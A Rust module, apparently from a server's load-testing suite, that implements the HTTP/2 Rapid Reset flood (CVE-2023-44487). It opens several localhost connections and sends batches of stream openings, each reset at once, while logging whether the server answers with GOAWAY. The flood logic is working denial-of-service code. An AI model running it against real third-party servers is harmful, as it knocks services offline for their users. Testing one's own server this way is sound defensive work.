//! Streams that are opened and reset at once, in floods (CVE-2023-44487).

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::answers::AnswersOf;
use super::frames::{self, Heard, Listening};
use crate::load::Ports;

const CONNECTIONS: u32 = 8;
const STREAMS: u32 = 100;
pub(super) const SENT: &str = "streams opened and reset";
/// Of each connection: 5,000 streams a second, 40,000 in all.
const FLOOD_EVERY: Duration = Duration::from_millis(20);
/// Before a connection in place of one that was ended.
const PAUSE: Duration = Duration::from_millis(100);
const LAST_STREAM: u32 = 1 << 30;

pub(super) fn join(ports: Ports, answers: &AnswersOf, crowd: &mut JoinSet<()>) {
    for number in 0..CONNECTIONS {
        let answers = answers.clone();
        // Both ports speak HTTP/2.
        let port = if number % 2 == 0 { ports.grpc } else { ports.http };
        crowd.spawn(async move {
            tokio::time::sleep(FLOOD_EVERY * number / CONNECTIONS).await;
            loop {
                let ended = flood(port, &answers).await.unwrap_or_else(|_| "broken off".into());
                answers.note(ended);
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
}

/// Until the connection is ended; how that was said.
async fn flood(port: u16, answers: &AnswersOf) -> anyhow::Result<String> {
    let stream = TcpStream::connect(("127.0.0.1", port)).await?;
    stream.set_nodelay(true)?;
    let (mut from, mut to) = stream.into_split();
    let mut bytes = frames::PREFACE.to_vec();
    frames::settings(&mut bytes);
    let block = frames::export_block();
    let mut next = 1;
    let mut due = tokio::time::interval(FLOOD_EVERY);
    let mut listening = Listening::default();
    loop {
        tokio::select! {
            heard = listening.next(&mut from) => match heard {
                None => return Ok("closed".into()),
                Some(Heard::GoAway { code }) => return Ok(format!("GOAWAY {code}")),
                Some(heard) => frames::reply(heard, &mut to).await?,
            },
            _ = due.tick(), if next < LAST_STREAM => {
                for stream in (next..).step_by(2).take(STREAMS as usize) {
                    frames::headers(stream, &block, &mut bytes);
                    frames::reset(stream, &mut bytes);
                }
                next += 2 * STREAMS;
                to.write_all(&bytes).await?;
                answers.add(SENT, STREAMS.into());
                bytes.clear();
            }
        }
    }
}
